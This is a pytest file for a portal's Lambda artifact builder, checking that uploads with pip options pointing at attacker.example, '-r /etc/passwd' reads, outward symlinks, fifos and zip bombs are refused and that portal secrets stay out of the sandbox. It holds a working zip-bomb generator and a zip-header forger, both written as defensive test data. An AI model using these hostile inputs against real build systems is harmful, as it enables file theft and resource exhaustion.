"""Artifact builds run nothing of the package's and see nothing of the portal's; uploads are bounded.

The probe's cases (issue 17, items 3 and 4): a requirements.txt with pip options (`--no-binary
:all:`, `--find-links`, `-r /path/to/secret`), a symbolic link or a fifo in a package folder, a
2 KB zip whose module is 500,000 lines of `x=1`, a 245 KB zip bomb, a deeply nested expression.
pip and the import check are real: they run in the sandbox's child processes.
"""

from __future__ import annotations

import io
import os
import sys
import time
import zipfile
from pathlib import Path
from typing import Any

import pytest

from provisioning import artifacts, bundle, sandbox
from provisioning.artifacts import (
    MAX_ENTRY_BYTES,
    MAX_RATIO,
    PIP_OPTIONS_ENV,
    WHEELHOUSE_ENV,
    ArtifactError,
    artifact_from_bytes,
    artifact_from_directory,
    build_artifact,
    pip_environment,
    pip_invocation,
    vendor_requirements,
)
from provisioning.bundle import MAX_MODULE_BYTES, BundleError, check_bundle
from provisioning.pins import PinError, parse_pins, pins_file
from provisioning.sandbox import Limits, SandboxLimit, run_limited, sandbox_env

SECRETS = {
    "AWS_ACCESS_KEY_ID": "AKIAPORTALSECRET0001",
    "AWS_SECRET_ACCESS_KEY": "portal-aws-secret-value",
    "AWS_SESSION_TOKEN": "portal-session-token",
    "DATABASE_URL": "postgres://portal:dbpassword@db/portal",
    "DJANGO_SECRET_KEY": "portal-django-secret",
    "ENVPORT_NOTIFY_SECRET": "portal-envport-secret",
    "PIP_INDEX_URL": "https://attacker.example/simple",
    "PIP_NO_BINARY": "jmespath,aws-lambda-powertools",
}
HANDLER_SOURCE = "def lambda_handler(event, context):\n    return 1\n"
USES_POWERTOOLS = (
    "from aws_lambda_powertools import Logger\n\nLOG = Logger()\n\n\n"
    "def lambda_handler(event, context):\n    return 'ok'\n"
)


def make_package(root: Path, files: dict[str, str]) -> Path:
    root.mkdir(parents=True, exist_ok=True)
    for relative, text in {"__init__.py": "", "handler.py": HANDLER_SOURCE, **files}.items():
        path = root / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    return root


def zip_of(entries: dict[str, str | bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        for name, data in entries.items():
            zf.writestr(name, data)
    return buffer.getvalue()


def zip_bomb(size: int = 250_000_000) -> bytes:
    """The probe's 245 KB zip: a handler and one entry of `size` zero bytes, written in chunks so
    that making it does not cost what it would cost to inflate."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        zf.writestr("app.py", "def h(event, context):\n    return 1\n")
        info = zipfile.ZipInfo("blob.bin")
        info.compress_type = zipfile.ZIP_DEFLATED
        with zf.open(info, "w", force_zip64=True) as out:
            chunk = bytes(1024 * 1024)
            for _ in range(size // len(chunk)):
                out.write(chunk)
    return buffer.getvalue()


# --- requirements.txt: exact pins and nothing else (17.3) ---


@pytest.mark.parametrize(
    "line, kind",
    [
        ("--no-binary :all:", "a pip option"),
        ("--find-links https://attacker.example/wheels", "a pip option"),
        ("--index-url https://attacker.example/simple", "a pip option"),
        ("-e .", "a pip option"),
        ("-r SECRET", "a pip option"),
        ("somepkg @ https://attacker.example/somepkg-1.0.tar.gz", "a URL or path"),
        ("git+https://attacker.example/repo.git", "not a pinned requirement"),
        ("./local/folder", "not a pinned requirement"),
        ("somepkg>=1.0", "not pinned with =="),
        ("somepkg==1.*", "not pinned with =="),
        ("somepkg", "not pinned with =="),
        ("somepkg==1.0 --no-binary :all:", "not a pinned requirement"),
        ("somepkg==1.0 --hash=md5:0123", "a hash other than"),
    ],
)
def test_requirements_with_pip_options_are_refused_by_line_never_echoed(
    tmp_path: Path, line: str, kind: str
) -> None:
    """Issue 17 case: a requirements.txt holding pip options (`--no-binary :all:`, `--find-links`,
    `-r /path/to/secret`, URLs, paths, ranges) is refused naming its line number and what is
    allowed, before pip runs, and the refusal quotes nothing of the file (the probe's `-r FILE`
    printed the secret's content)."""
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-CONTENT-4242\n")
    line = line.replace("SECRET", str(secret))
    root = make_package(tmp_path / "myfn", {"requirements.txt": f"# pinned\n\nboto3==1.44.5\n{line}\n"})
    with pytest.raises(ArtifactError) as info:
        # An unusable pip option would fail any pip run: the refusal comes before one.
        artifact_from_directory(root, pip_options=["--no-such-option"])
    [problem] = info.value.problems
    assert problem.startswith("myfn/requirements.txt:4: ") and kind in problem
    assert "name==version" in problem  # what is allowed
    for leaked in ("TOP-SECRET", str(secret), line, "attacker"):
        assert leaked not in str(info.value)


def test_exact_pins_with_hashes_markers_and_continuations_are_what_pip_is_given() -> None:
    text = (
        "# generated\n"
        "aws-lambda-powertools==3.37.0  # the logger\n"
        'jmespath==1.1.0 ; python_version >= "3.9"\n'
        "requests[socks]==2.32.3 \\\n"
        f"    --hash=sha256:{'a' * 64} \\\n"
        f"    --hash=sha256:{'b' * 64}\n"
        "\n"
    )
    pins = parse_pins(text.encode())
    assert [(p.name, p.version, p.lineno) for p in pins] == [
        ("aws-lambda-powertools", "3.37.0", 2),
        ("jmespath", "1.1.0", 3),
        ("requests", "2.32.3", 4),
    ]
    assert pins_file(pins).splitlines() == [
        "aws-lambda-powertools==3.37.0",
        'jmespath==1.1.0 ; python_version >= "3.9"',
        f"requests[socks]==2.32.3 --hash=sha256:{'a' * 64} --hash=sha256:{'b' * 64}",
    ]
    assert parse_pins(b"# nothing yet\n\n") == []


def test_requirements_files_are_bounded() -> None:
    with pytest.raises(PinError, match="at most 65536"):
        parse_pins(b"# x\n" * 20_000)
    with pytest.raises(PinError, match="not UTF-8"):
        parse_pins(b"\xff\xfe==1\n")


def test_configured_pip_options_may_only_say_where_wheels_come_from(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Even the operator's ENVPORT_PIP_OPTIONS cannot turn source builds back on."""
    root = make_package(tmp_path / "myfn", {"requirements.txt": "tinylib==1.0\n"})
    monkeypatch.setenv(PIP_OPTIONS_ENV, "--no-index --no-binary :all:")
    with pytest.raises(ArtifactError, match="'--no-binary' is not allowed; only where wheels come from"):
        artifact_from_directory(root)


# --- the sandbox's environment and pip's argv (17.3) ---


def test_the_builders_environment_has_nothing_of_the_portals(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Issue 17 case: pip ran inside the portal's process environment (AWS keys, DATABASE_URL).
    The builder's environment function, with the portal's secrets set, yields an allow-list:
    no AWS_*, DATABASE_URL, *SECRET*, ENVPORT_* or host PIP_* variable, its own HOME and TMPDIR."""
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    home = tmp_path / "home"
    env = pip_environment(home, ["--no-index", "--find-links", "/wheels"])
    assert not [k for k in env if k.startswith(("AWS_", "ENVPORT_")) or "SECRET" in k or k == "DATABASE_URL"]
    assert not set(SECRETS.values()) & set(env.values())
    assert set(env) <= {
        *sandbox.ALLOWED_ENV,
        "HOME",
        "TMPDIR",
        "PYTHONNOUSERSITE",
        "PYTHONDONTWRITEBYTECODE",
    } | {k for k in env if k.startswith("PIP_")}
    assert env["HOME"] == str(home) and env["TMPDIR"] == str(home / "tmp") and (home / "tmp").is_dir()
    assert env["PIP_ONLY_BINARY"] == ":all:" and env["PIP_NO_INDEX"] == "1"
    assert env["PIP_CONFIG_FILE"] == os.devnull  # no pip.conf of the host's
    assert "PIP_INDEX_URL" not in env and "PIP_NO_BINARY" not in env


def test_pip_is_invoked_wheels_only_from_the_wheelhouse_only(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv(PIP_OPTIONS_ENV, raising=False)
    monkeypatch.setenv(WHEELHOUSE_ENV, str(tmp_path / "wheels"))
    (tmp_path / "wheels").mkdir()
    argv, env = pip_invocation(
        tmp_path / "req.txt",
        tmp_path / "site",
        tmp_path / "home",
        pip_options=artifacts.pip_options_from_env(),
    )
    assert argv[:4] == [sys.executable, "-m", "pip", "install"]
    assert "--only-binary=:all:" in argv and env["PIP_ONLY_BINARY"] == ":all:"
    assert argv[argv.index("--find-links") + 1] == str(tmp_path / "wheels")
    assert "--no-index" in argv and env["PIP_NO_INDEX"] == "1"
    assert argv[-2:] == ["-r", str(tmp_path / "req.txt")]


@pytest.mark.heavy
def test_a_real_build_vendors_the_wheelhouse_in_the_sandbox(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # R-REL-1
    """lambda_bundle's pinned Powertools is built from var/wheelhouse with the portal's secrets in
    os.environ: the build works, and the pip process it ran saw the sandbox's environment (the
    argv and env recorded on their way to the real child), with none of those secrets."""
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    monkeypatch.delenv(PIP_OPTIONS_ENV, raising=False)
    monkeypatch.delenv(WHEELHOUSE_ENV, raising=False)
    assert artifacts.wheelhouse_dir().is_dir(), "make venv downloads the wheelhouse"
    seen: list[tuple[list[str], dict[str, str]]] = []
    real = artifacts.run_limited

    def recording(argv: list[str], **kwargs: Any) -> sandbox.Finished:
        seen.append((list(argv), dict(kwargs["env"])))
        return real(argv, **kwargs)

    monkeypatch.setattr(artifacts, "run_limited", recording)
    requirements = (bundle.DEFAULT_ROOT / "requirements.txt").read_text()
    root = make_package(tmp_path / "fn", {"handler.py": USES_POWERTOOLS, "requirements.txt": requirements})
    built = artifact_from_directory(root)
    assert "aws_lambda_powertools/__init__.py" in built.files and "fn/handler.py" in built.files
    [(argv, env)] = seen
    assert "--only-binary=:all:" in argv and "--no-index" in argv
    assert argv[argv.index("--find-links") + 1] == str(artifacts.DEFAULT_WHEELHOUSE)
    assert not set(SECRETS.values()) & set(env.values())
    assert not [k for k in env if k.startswith("AWS_") or "SECRET" in k or k == "DATABASE_URL"]


def test_the_child_really_gets_only_the_sandbox_environment(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    done = run_limited(
        [sys.executable, "-c", "import os, json; print(json.dumps(dict(os.environ)))"],
        env=sandbox_env(tmp_path),
        limits=Limits(cpu_s=10, memory_bytes=512 * 2**20, file_bytes=2**20, wall_s=30),
        cwd=tmp_path,
    )
    import json

    seen = json.loads(done.stdout)
    assert not set(SECRETS) & set(seen) and seen["HOME"] == str(tmp_path)


@pytest.mark.parametrize(
    "code, limits, limit",
    [
        ("import time; time.sleep(30)", {"wall_s": 1}, "wall-clock limit of 1 s"),
        ("while True: pass", {"cpu_s": 1}, "CPU limit of 1 s"),
        ("x = bytearray(600 * 2**20)", {"memory_bytes": 256 * 2**20}, "memory limit of 256 MB"),
        ("open('big', 'wb').write(bytes(3 * 2**20))", {"file_bytes": 2**20}, "file-size limit of 1 MB"),
    ],
)
def test_a_child_over_a_limit_is_stopped_and_named(
    tmp_path: Path, code: str, limits: dict[str, int], limit: str
) -> None:
    base = {"cpu_s": 20, "memory_bytes": 1024 * 2**20, "file_bytes": 64 * 2**20, "wall_s": 60}
    started = time.monotonic()
    with pytest.raises(SandboxLimit, match=limit):
        run_limited(
            [sys.executable, "-c", code],
            env=sandbox_env(tmp_path),
            limits=Limits(**{**base, **limits}),
            cwd=tmp_path,
        )
    assert time.monotonic() - started < 30


def test_a_pip_run_over_its_limit_is_a_clear_refusal(tmp_path: Path) -> None:
    """A build over a limit is refused naming the limit, not a traceback or a hang."""
    requirements = tmp_path / "fn" / "requirements.txt"
    requirements.parent.mkdir()
    requirements.write_text("tinylib==1.0\n")
    tight = Limits(cpu_s=60, memory_bytes=2**30, file_bytes=2**20, wall_s=0.05)
    with pytest.raises(ArtifactError, match=r"fn/requirements.txt: pip went over the wall-clock limit"):
        vendor_requirements(requirements, pip_options=["--no-index"], limits=tight)


# --- folders refuse links and special files, as zips do (17.3) ---


def test_a_symlink_in_a_bundle_folder_pointing_outside_is_refused(tmp_path: Path) -> None:
    """Issue 17 case: a symbolic link in a bundle folder packaged (and uploaded) a file from outside
    it. Refused like a zip's link entry, naming the path inside the folder, nothing read."""
    outside = tmp_path / "outside.py"
    outside.write_text("SECRET = 'from outside the bundle'\n")
    root = make_package(tmp_path / "myfn", {})
    (root / "stolen.py").symlink_to(outside)
    (root / "sub").mkdir()
    (root / "sub" / "linked_dir").symlink_to(tmp_path, target_is_directory=True)
    with pytest.raises(ArtifactError) as info:
        build_artifact(root)
    assert info.value.problems == [
        "stolen.py: a symbolic link is not allowed in a package folder; regular files and folders only",
        "sub/linked_dir: a symbolic link is not allowed in a package folder; regular files and folders only",
    ]
    assert artifacts.source_key(root, handler="myfn.handler.lambda_handler") is None


def test_a_symlinked_requirements_file_is_refused(tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text("TOP-SECRET\n")
    root = make_package(tmp_path / "myfn", {})
    (root / "requirements.txt").symlink_to(secret)
    with pytest.raises(ArtifactError, match=r"^the artifact.*\n  requirements.txt: a symbolic link") as info:
        build_artifact(root)
    assert "TOP-SECRET" not in str(info.value)


@pytest.mark.timeout(60)
@pytest.mark.parametrize("name", ["requirements.txt", "feed.py", "data.bin"])
def test_a_fifo_in_a_bundle_folder_is_refused_without_blocking(tmp_path: Path, name: str) -> None:
    """Issue 17 case: a fifo in a package folder (a read of it would wait for ever) is refused."""
    root = make_package(tmp_path / "myfn", {})
    os.mkfifo(root / name)
    with pytest.raises(ArtifactError, match=rf"^the artifact.*\n  {name}: a fifo is not allowed"):
        build_artifact(root)


def test_a_fifo_swapped_in_after_the_walk_is_still_not_read(tmp_path: Path) -> None:
    fifo = tmp_path / "late.py"
    os.mkfifo(fifo)
    with pytest.raises(BundleError, match="is not a regular file"):
        bundle.read_regular(fifo, 1024, "myfn/late.py")


# --- zips: caps from the headers and while reading (17.4) ---


def test_the_source_bomb_is_refused_fast() -> None:
    """Issue 17 case: a 2 KB zip whose handler is 500,000 lines of `x=1` took 18.8 s and 730 MB
    to accept. Now refused from its headers (1000:1 and over the module cap), unparsed."""
    data = zip_of({"app.py": "def h(event, context):\n    return 1\n" + "x=1\n" * 500_000})
    assert len(data) < 4096
    started = time.perf_counter()
    with pytest.raises(ArtifactError, match=r"entry 'app.py' inflates \d+:1"):
        artifact_from_bytes(data, handler="app.h", source="upload bomb.zip")
    assert time.perf_counter() - started < 2


def test_a_module_over_the_cap_is_refused_before_parsing() -> None:
    # Barely compressible text under the ratio floor: only the module cap stands in the way.
    lines = "".join(f"v{i} = {i * 7919 % 1000003}\n" for i in range(40_000))
    assert MAX_MODULE_BYTES < len(lines) < 1024 * 1024
    data = zip_of({"app.py": "def h(event, context):\n    return 1\n" + lines})
    with pytest.raises(
        ArtifactError,
        match=rf"entry 'app.py' is \d+ bytes; a module of the function is at most {MAX_MODULE_BYTES}",
    ):
        artifact_from_bytes(data, handler="app.h", source="upload big.zip")
    with pytest.raises(BundleError, match="a module of the function is at most"):
        check_bundle({"app.py": b"x" * (MAX_MODULE_BYTES + 1)}, handler="app.h")


@pytest.mark.heavy
def test_the_zip_bomb_is_refused_without_inflating(monkeypatch: pytest.MonkeyPatch) -> None:
    """Issue 17 case: a 245 KB zip bomb cost 490 MB. Refused from its headers: no entry is opened."""
    data = zip_bomb()
    assert len(data) < 300_000
    small = zip_bomb(100 * 2**20)  # under the per-entry cap: the ratio still says what it is
    opened: list[str] = []
    real_open = zipfile.ZipFile.open

    def recording(self: zipfile.ZipFile, name: Any, *args: Any, **kwargs: Any) -> Any:
        opened.append(getattr(name, "filename", name))
        return real_open(self, name, *args, **kwargs)

    monkeypatch.setattr(zipfile.ZipFile, "open", recording)
    with pytest.raises(ArtifactError) as info:
        artifact_from_bytes(data, handler="app.h", source="upload bomb.zip")
    assert opened == []
    assert f"an entry is at most {MAX_ENTRY_BYTES}" in info.value.problems[0]
    with pytest.raises(ArtifactError, match=rf"inflates \d+:1 .*at most {MAX_RATIO}:1"):
        artifact_from_bytes(small, handler="app.h", source="upload bomb.zip")
    assert opened == []


def _lie_about_size(data: bytes, name: bytes, size: int) -> bytes:
    """Rewrite an entry's uncompressed size in its local and central headers (APPNOTE 4.3.7, 4.3.12)."""
    out = bytearray(data)
    local = 0  # the first local header
    while True:
        name_len = int.from_bytes(out[local + 26 : local + 28], "little")
        if out[local + 30 : local + 30 + name_len] == name:
            out[local + 22 : local + 26] = size.to_bytes(4, "little")
            break
        local = out.index(b"PK\x03\x04", local + 4)
    central = out.index(b"PK\x01\x02")
    while True:
        name_len = int.from_bytes(out[central + 28 : central + 30], "little")
        if out[central + 46 : central + 46 + name_len] == name:
            out[central + 24 : central + 28] = size.to_bytes(4, "little")
            return bytes(out)
        central = out.index(b"PK\x01\x02", central + 4)


def test_a_lying_header_does_not_beat_the_cap() -> None:
    """An entry whose headers declare 1,000 bytes but whose data inflates to 50 MB is read no
    further than the declared size, and refused."""
    data = zip_of({"app.py": "def h(event, context):\n    return 1\n", "blob.bin": bytes(50 * 2**20)})
    lying = _lie_about_size(data, b"blob.bin", 1000)
    with zipfile.ZipFile(io.BytesIO(lying)) as zf:
        assert zf.getinfo("blob.bin").file_size == 1000
    with pytest.raises(ArtifactError, match=r"entry 'blob.bin' is corrupt"):
        artifact_from_bytes(lying, handler="app.h", source="upload lying.zip")


def test_entries_and_depth_are_capped(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(artifacts, "MAX_FILES", 10)
    many = zip_of(
        {"app.py": "def h(event, context):\n    return 1\n", **{f"d/{i}.txt": "x" for i in range(10)}}
    )
    with pytest.raises(ArtifactError, match="11 entries is not allowed; at most 10"):
        artifact_from_bytes(many, handler="app.h", source="upload many.zip")
    deep = zip_of({"app.py": "def h(event, context):\n    return 1\n", "a/" * 40 + "x.txt": "x"})
    with pytest.raises(ArtifactError, match="41 levels deep; at most 32"):
        artifact_from_bytes(deep, handler="app.h", source="upload deep.zip")


# --- the import check: bounded depth, memory and time (17.4) ---


@pytest.mark.parametrize(
    "expression",
    [
        "-" * 200_000 + "1",  # the parser's own stack
        "(" * 150 + "1" + ")" * 150,  # under the tokenizer's limit, deep for the parser
        "a" + ".b" * 100_000,  # parses, then as deep as an AST gets
        "[" * 5_000 + "]" * 5_000,
    ],
)
def test_a_deeply_nested_expression_is_a_refusal_not_a_memory_error(expression: str) -> None:
    """Issue 17 case: a deeply nested expression gave a 500 page (MemoryError). Every depth ends in
    an answer: accepted, or refused naming the module."""
    source = f"def h(event, context):\n    return 1\n\nx = {expression}\n"
    try:
        artifact_from_bytes(zip_of({"app.py": source}), handler="app.h", source="upload nested.zip")
    except ArtifactError as exc:
        assert exc.problems[0].startswith("app.py"), exc.problems


def test_an_import_check_over_its_limits_is_a_clear_refusal() -> None:
    tight = Limits(cpu_s=20, memory_bytes=48 * 2**20, file_bytes=2**20, wall_s=60)
    source = b"def h(event, context):\n    return 1\n" + b"x = [" + b"1, " * 60_000 + b"]\n"
    with pytest.raises(BundleError) as info:
        check_bundle({"app.py": source}, handler="app.h", limits=tight)
    [problem] = info.value.problems
    assert problem.startswith(
        (
            "the import check of package app went over the memory limit of 48 MB",
            "app.py: nests too deeply or is too large",
        )
    )


@pytest.mark.heavy
def test_the_check_child_is_killed_with_its_group_at_the_deadline(tmp_path: Path) -> None:
    marker = tmp_path / "grandchild.pid"
    code = (
        "import subprocess, sys, time; "
        f"p = subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(60)']); "
        f"open({str(marker)!r}, 'w').write(str(p.pid)); time.sleep(60)"
    )
    with pytest.raises(SandboxLimit):
        run_limited(
            [sys.executable, "-c", code],
            env=sandbox_env(tmp_path),
            limits=Limits(cpu_s=20, memory_bytes=2**30, file_bytes=2**20, wall_s=2),
            cwd=tmp_path,
        )
    status = Path(f"/proc/{int(marker.read_text())}/status")
    deadline = time.monotonic() + 5
    while status.exists() and "State:\tZ" not in status.read_text() and time.monotonic() < deadline:
        time.sleep(0.1)
    assert not status.exists() or "State:\tZ" in status.read_text()  # gone, or dead and unreaped


# --- a package folder's zip is built like the folder (23.2) ---


def test_a_package_folder_zip_is_built_like_the_folder(tmp_path: Path) -> None:
    """The same bytes as `release --bundle myfn/`: the zip of a folder holding requirements.txt
    is rebuilt from its modules (nothing else of the zip is taken) and vendored the same way."""
    root = make_package(tmp_path / "myfn", {"helper.py": "VALUE = 1\n", "requirements.txt": "# none yet\n"})
    folder = build_artifact(root)
    data = zip_of(
        {
            "myfn/__init__.py": "",
            "myfn/handler.py": HANDLER_SOURCE,
            "myfn/helper.py": "VALUE = 1\n",
            "myfn/requirements.txt": "# none yet\n",
            "myfn/notes.md": "not code",
        }
    )
    uploaded = build_artifact(data, handler="myfn.handler.lambda_handler", name="myfn.zip")
    assert uploaded.sha256 == folder.sha256 and uploaded.source == "upload myfn.zip"
    with pytest.raises(ArtifactError, match=r"names package 'other', but the zip's folder is 'myfn'"):
        build_artifact(data, handler="other.handler.lambda_handler", name="myfn.zip")
    bad = zip_of(
        {
            "myfn/__init__.py": "",
            "myfn/handler.py": HANDLER_SOURCE,
            "myfn/requirements.txt": "-r /etc/passwd\n",
        }
    )
    with pytest.raises(ArtifactError) as info:
        build_artifact(bad, handler="myfn.handler.lambda_handler", name="myfn.zip")
    assert info.value.problems[0].startswith("myfn/requirements.txt:1: a pip option is not allowed")
    assert "/etc/passwd" not in str(info.value)


def test_a_ready_zips_missing_import_names_the_real_fix() -> None:
    """Issue 23 case: the hint told a zip's author to list the package in requirements.txt, which
    the API then ignored. A ready zip's hint now says to send the package folder's zip."""
    data = zip_of(
        {"app/__init__.py": "", "app/main.py": "import yaml\n\ndef h(event, context):\n    return 1\n"}
    )
    with pytest.raises(ArtifactError) as info:
        build_artifact(data, handler="app.main.h", name="app.zip")
    assert "requirements.txt" in info.value.problems[0]
    assert "send the package folder's zip, whose requirements the portal vendors" in info.value.problems[0]


@pytest.mark.parametrize(
    "entries, expected",
    [
        ({"fn/x.py": "", "fn/x.py/y.py": ""}, "entry 'fn/x.py/y.py' clashes with another entry's path"),
        ({"fn/a\x01b.py": ""}, "entry 'fn/a\\x01b.py' has a control character in its name"),
    ],
)
def test_a_package_zip_whose_paths_cannot_be_a_folder_is_refused(
    entries: dict[str, str], expected: str
) -> None:
    base = {"fn/__init__.py": "", "fn/handler.py": HANDLER_SOURCE, "fn/requirements.txt": ""}
    with pytest.raises(ArtifactError) as info:
        build_artifact(zip_of({**base, **entries}), handler="fn.handler.lambda_handler", name="t.zip")
    assert info.value.problems == [f"upload t.zip: {expected}"]
